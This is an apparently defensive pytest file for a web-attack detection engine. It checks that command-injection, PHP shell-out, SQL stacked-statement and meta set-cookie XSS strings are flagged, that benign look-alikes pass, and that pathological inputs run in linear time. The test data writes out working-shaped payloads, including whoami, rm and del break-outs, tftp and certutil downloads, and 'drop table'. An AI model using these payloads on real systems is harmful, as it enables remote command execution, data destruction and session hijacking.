"""Unit: the shapes of the fresh24 first contact.

Command injection: a cmd.exe (or POSIX) command line after a quote or a separator that ends the application's line
with ``&rem``/``|rem``, a trailing `` #`` or an append redirection, its arguments split by cmd.exe's blanks (``;``,
``,``, tab, vertical tab, form feed); PHP code that concatenates or glues a ``system``/``passthru`` call after a
break-out; cmd.exe switches before the command ``/c`` runs; Perl's ``print `cmd```. SQL: a backslash-escaped quote
then a stacked statement, and MySQL's ``DESC``/``DESCRIBE``/``SHOW`` stacked after a break-out. XSS: a
``<meta http-equiv=set-cookie>``. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from bastion.detection import Context, Engine
from bastion.detection.cmd_breakouts import cmd_line_breakout, php_shell_breakout, switches_or_backtick
from bastion.detection.rules import Detection
from bastion.detection.shell import is_cmdi
from bastion.detection.sqli import is_sqli
from bastion.detection.xss import is_xss

BODY = Context("body", "note")
QUERY = Context("query", "comment")
COOKIE = Context("cookie", "prefs")

ATTACKS: dict[str, tuple[str, str]] = {
    # cmd.exe command lines closed by &rem / |rem, arguments split by cmd.exe's blanks
    "quote_amp_del_vtab_rem": ('"&del\x0bmarker77&rem\x0b', "cmdi"),
    "bare_del_semicolons_rem": ("erase;zz123&rem;", "cmdi"),
    "ping_commas_pipe_rem": ("ping,-n,2,-w,5000,10.9.8.7|rem,", "cmdi"),
    "quote_ping_formfeed_rem": ('"ping\x0c-n\x0c3\x0c10.1.1.1&rem\x0c', "cmdi"),
    "amp_ver_redirect_rem": ("&ver\t>out555&rem\t", "cmdi"),
    "quote_type_space_rem": ("'type c:\\boot.ini&rem ", "cmdi"),
    "mixed_case_rem": ('"&Del zz1&Rem ', "cmdi"),
    # a trailing # after a break-out that opens the value
    "posix_quote_semicolon_rm": ("';rm /tmp/zz9 #", "cmdi"),
    "quote_cr_del": ('"\rdel zz9 #', "cmdi"),
    "semicolon_whoami_hash": (";whoami #", "cmdi"),
    # quote, separator, command, append redirection
    "quote_or_echo_append": ("abc' || echo 4d 5a 90 00 03 >>drop.bin", "cmdi"),
    "quote_and_echo_append": ('x" && echo n a.exe >>run.txt', "cmdi"),
    # PHP break-outs calling a shell-out function
    "php_concat_system": ("'.system('uname -a').'", "cmdi"),
    "php_array_key_passthru": ("'].passthru(\"whoami\").die().$x['", "cmdi"),
    "php_paren_shell_exec": ("1).shell_exec('ls /').(", "cmdi"),
    "php_body_system_constant": ("k(){}system(whoami);function z", "cmdi"),
    "php_at_passthru": ("@passthru(id);@", "cmdi"),
    # cmd.exe switches before the command; Perl backticks
    "cmd_switches_tftp": ("/q /c tftp -i 10.0.0.9 get a.exe b.exe", "cmdi"),
    "cmd_k_certutil": ("/k certutil -urlcache -f http://x/y y", "cmdi"),
    "perl_print_backtick": ("op=view;print `uname -a`;", "cmdi"),
    # SQL: escaped quote then a stacked statement; metadata statements
    "escaped_quote_desc": ("\\'; desc accounts; -- x", "sqli"),
    "escaped_quote_drop": ('\\"; drop table orders; #', "sqli"),
    "quote_describe": ("9'; describe customers;#", "sqli"),
    "quote_show_tables": ("x'; show databases; -- -", "sqli"),
    # XSS: cookie set from markup
    "meta_set_cookie": ('<meta http-equiv="Set-Cookie" content="sess=fixed">', "xss"),
}

BENIGN: dict[str, str] = {
    # prose with separators, command-like words and a trailing #
    "meet_set_table": "Meet at 5; set the table #",
    "qa_type_name": "Q&A session; type your name #",
    "tom_jerry": "Tom & Jerry; echo the song #",
    "hashtag": "I'd like to ping you #urgent",
    "quoted_dir": "'Dir' #1",
    "order_number": "Order #5; type: express",
    "shell_comment": "rm -rf node_modules # clean",
    "r_and_d": "R&D&rem",
    "type_remarks": "Type & Remarks",
    "rock_rem": "Rock & Rem",
    "bare_ping_rem": "ping & rem",
    "csharp": "C# and F#",
    "french": "Réunion; type de chambre #2",
    "german": "Treffen um 5; setze den Tisch #",
    "japanese": "会議; 削除してください #",
    "markdown_redirect": "```\necho hello >> notes.txt\n```",
    "quote_then_prose_redirect": 'He said "fine" and left >> next',
    # code that calls methods named like shell-outs
    "js_regexp_exec": 'new RegExp("a+").exec(str)',
    "method_system": "$x = foo().system(bar)",
    "call_system_prose": "call system(x) to start",
    "python_os_system_doc": "Use subprocess instead of os.system in new code",
    # paths and backticks
    "windows_path_c": "/c/users/me/docs",
    "markdown_print": "Print `id` column in the report",
    "print_code_span": "use `print` here",
    # SQL look-alikes
    "desc_prose": "I'm fine; desc of the item follows",
    "show_prose": "it's good; show me the menu",
    "json_escaped_quote": '{"a": "it\\\'s; show time"}',
    "rock_n_roll": "Rock 'n' roll; show tables are nice",
    # meta tags that are not cookie setters
    "meta_charset": "<meta charset=utf-8>",
    "set_cookie_prose": "The Set-Cookie header sets a cookie",
}


def _found(engine: Engine, value: str, ctx: Context) -> Detection | None:
    return engine.inspect(value, ctx)


@pytest.mark.parametrize(("value", "attack"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh24_shape_is_caught(engine: Engine, value: str, attack: str) -> None:
    for ctx in (BODY, QUERY, COOKIE):
        found = _found(engine, value, ctx)
        assert found is not None and found.rule.attack == attack, (value, ctx, found)


@pytest.mark.parametrize("value", BENIGN.values(), ids=BENIGN.keys())
def test_fresh24_look_alike_passes(engine: Engine, value: str) -> None:
    for ctx in (BODY, QUERY):
        assert _found(engine, value, ctx) is None, (value, ctx)


def test_hash_needs_the_break_out_to_open_the_value() -> None:
    assert cmd_line_breakout("';del zz #") is not None
    assert cmd_line_breakout("notes ';del zz #") is None


def test_rem_needs_arguments_or_a_break_out() -> None:
    assert cmd_line_breakout("del;zz&rem;") is not None
    assert cmd_line_breakout("ping & rem") is None


def test_php_concat_needs_a_string_argument() -> None:
    assert php_shell_breakout("').system('id').('") is not None
    assert php_shell_breakout("').system(id).('") is None


def test_switches_need_a_known_tool() -> None:
    assert switches_or_backtick("/c whoami /all", {"whoami"}) is not None
    assert switches_or_backtick("/c summary of the week", {"whoami"}) is None


ADVERSARIAL: list[tuple[Callable[[str], object], str]] = [
    (is_cmdi, '";rm ' * 30_000),
    (is_cmdi, "&del;" + "a;" * 70_000 + "#"),
    (is_cmdi, "'|ping " * 20_000 + "&re"),
    (is_cmdi, "\x0bdel\x0b" * 20_000),
    (is_cmdi, '" || echo ' + "ab " * 45_000 + ">"),
    (is_cmdi, "'.system('" * 14_000),
    (is_cmdi, "{}system(" * 15_000),
    (is_cmdi, "/c " * 45_000),
    (is_cmdi, ";print `" * 17_000),
    (is_sqli, "\\';" * 45_000),
    (is_sqli, "\\'; desc " * 14_000),
    (is_xss, '<meta http-equiv="set-cookie" ' * 4_000),
]


@pytest.mark.parametrize(("check", "value"), ADVERSARIAL)
def test_fresh24_adversarial_values_are_linear(check: Callable[[str], object], value: str) -> None:
    value = value[: 128 * 1024]
    start = time.process_time()
    check(value)
    assert time.process_time() - start < 1.0
